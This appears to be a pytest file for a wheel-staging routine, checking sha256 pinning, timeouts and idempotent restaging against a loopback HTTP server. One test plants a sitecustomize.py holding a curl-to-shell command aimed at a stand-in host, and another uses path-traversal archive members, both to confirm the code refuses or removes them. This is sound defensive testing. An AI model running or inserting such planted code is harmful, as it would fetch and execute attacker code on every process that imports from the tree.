"""Staging a pinned wheel (verl) onto the bucket: sha256-checked, deadline-bound, skipped when there.

A loopback HTTP server stands in for PyPI's file host (no network here for the fault cases);
tests/test_verl_on_nodes.py stages the real pinned wheel from PyPI.
"""

from __future__ import annotations

import hashlib
import io
import threading
import time
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from workloads import stage_data
from domain.staged import MARKER_NAME, StagingError, fetch_verified, stage_wheel, unpack_wheel


def _wheel(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


WHEEL = _wheel({"pkg/__init__.py": b"VERSION = 1\n", "pkg/trainer/main.py": b"print('hi')\n",
                "pkg-1.0.dist-info/METADATA": b"Name: pkg\n"})
SHA = hashlib.sha256(WHEEL).hexdigest()


class _Handler(BaseHTTPRequestHandler):
    calls: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        _Handler.calls.append(self.path)
        if self.path == "/pkg-1.0-py3-none-any.whl":
            self.send_response(200)
            self.send_header("Content-Length", str(len(WHEEL)))
            self.end_headers()
            self.wfile.write(WHEEL)
        elif self.path == "/stall.whl":
            time.sleep(5)
        elif self.path == "/drip.whl":
            self.send_response(200)
            self.send_header("Content-Length", "1000")
            self.end_headers()
            for _ in range(50):
                self.wfile.write(b"x")
                self.wfile.flush()
                time.sleep(0.1)
        else:
            self.send_error(404)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def server() -> Iterator[str]:
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    _Handler.calls = []
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()
        httpd.server_close()


def _tree(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_a_wheel_is_unpacked_as_pip_would_and_a_second_run_rewrites_nothing(server: str, tmp_path: Path) -> None:
    url = f"{server}/pkg-1.0-py3-none-any.whl"
    assert stage_wheel(url=url, sha256=SHA, dest=tmp_path / "pkg")
    assert (tmp_path / "pkg/pkg/trainer/main.py").read_bytes() == b"print('hi')\n"
    assert (tmp_path / "pkg/pkg-1.0.dist-info/METADATA").is_file()
    before = {p: p.stat().st_mtime_ns for p in (tmp_path / "pkg").rglob("*")}
    assert not stage_wheel(url=url, sha256=SHA, dest=tmp_path / "pkg")
    assert {p: p.stat().st_mtime_ns for p in (tmp_path / "pkg").rglob("*")} == before
    # The pinned wheel is what the tree is compared with, every time (a few MB; never the bucket's word).
    assert _Handler.calls == ["/pkg-1.0-py3-none-any.whl"] * 2


def test_code_planted_in_the_staged_tree_is_removed_and_changed_files_restored(server: str, tmp_path: Path) -> None:
    """A bucket outlives its stacks: a file a job added to (or changed in) the tree every Ray process
    imports from first would run in each of them, even when its size is unchanged."""
    url = f"{server}/pkg-1.0-py3-none-any.whl"
    dest = tmp_path / "pkg"
    stage_wheel(url=url, sha256=SHA, dest=dest)
    clean = _tree(dest)
    (dest / "sitecustomize.py").write_bytes(b"import os; os.system('curl evil|sh')\n")
    (dest / "pkg/__pycache__").mkdir()
    (dest / "pkg/__pycache__/__init__.cpython-311.pyc").write_bytes(b"planted")
    (dest / "pkg/__init__.py").write_bytes(b"VERSION = 2\n")  # same size as b"VERSION = 1\n"
    assert stage_wheel(url=url, sha256=SHA, dest=dest)
    assert _tree(dest) == clean
    assert not (dest / "pkg/__pycache__").exists()


def test_a_missing_file_is_fetched_again(server: str, tmp_path: Path) -> None:
    url = f"{server}/pkg-1.0-py3-none-any.whl"
    stage_wheel(url=url, sha256=SHA, dest=tmp_path / "pkg")
    (tmp_path / "pkg/pkg/__init__.py").unlink()
    assert stage_wheel(url=url, sha256=SHA, dest=tmp_path / "pkg")
    assert (tmp_path / "pkg/pkg/__init__.py").is_file()


def test_bytes_with_another_sha256_are_refused_for_good(server: str, tmp_path: Path) -> None:
    with pytest.raises(StagingError, match="has sha256 .*, pinned 0{64}: refusing it") as caught:
        stage_wheel(url=f"{server}/pkg-1.0-py3-none-any.whl", sha256="0" * 64, dest=tmp_path / "pkg")
    assert caught.value.permanent
    assert not (tmp_path / "pkg" / MARKER_NAME).exists()
    assert not (tmp_path / "pkg/pkg").exists()


def test_a_missing_url_is_permanent(server: str, tmp_path: Path) -> None:
    with pytest.raises(StagingError, match="HTTP 404") as caught:
        fetch_verified(f"{server}/gone.whl", SHA, tmp_path / "w.whl")
    assert caught.value.permanent


def test_a_server_that_never_answers_is_a_transient_failure_within_the_socket_timeout(
        server: str, tmp_path: Path) -> None:
    started = time.monotonic()
    with pytest.raises(StagingError, match="timed out") as caught:
        fetch_verified(f"{server}/stall.whl", SHA, tmp_path / "w.whl", socket_timeout_s=0.5)
    assert not caught.value.permanent
    assert time.monotonic() - started < 3


def test_a_server_dripping_bytes_still_meets_the_deadline(server: str, tmp_path: Path) -> None:
    started = time.monotonic()
    with pytest.raises(StagingError, match="not done after 1 s"):
        fetch_verified(f"{server}/drip.whl", SHA, tmp_path / "w.whl", socket_timeout_s=2, deadline_s=1)
    assert time.monotonic() - started < 3


@pytest.mark.parametrize("member", ["../escape.py", "/abs.py", "pkg-1.0.data/scripts/run"])
def test_members_outside_the_target_are_refused(tmp_path: Path, member: str) -> None:
    wheel = tmp_path / "bad.whl"
    wheel.write_bytes(_wheel({member: b"x"}))
    with pytest.raises(StagingError, match="unexpected member") as caught:
        unpack_wheel(wheel, tmp_path / "out")
    assert caught.value.permanent
    assert not (tmp_path / "escape.py").exists()


def test_verl_flags_go_together_and_are_checked() -> None:
    with pytest.raises(StagingError) as caught:
        stage_data.parse_args(["--verl-wheel-url", "http://x/verl.whl", "--verl-wheel-sha256", "abc",
                               "--verl-dir", "../up"])
    message = str(caught.value)
    assert "--verl-wheel-url 'http://x/verl.whl' is not an https URL of a .whl file" in message
    assert "--verl-wheel-sha256 'abc' is not 64 lowercase hex digits" in message
    assert "--verl-dir '../up' must be one directory name" in message
    with pytest.raises(StagingError, match="missing --verl-wheel-sha256, --verl-dir"):
        stage_data.parse_args(["--verl-wheel-url", "https://x/verl.whl"])
    assert stage_data.parse_args([]).verl_dir is None
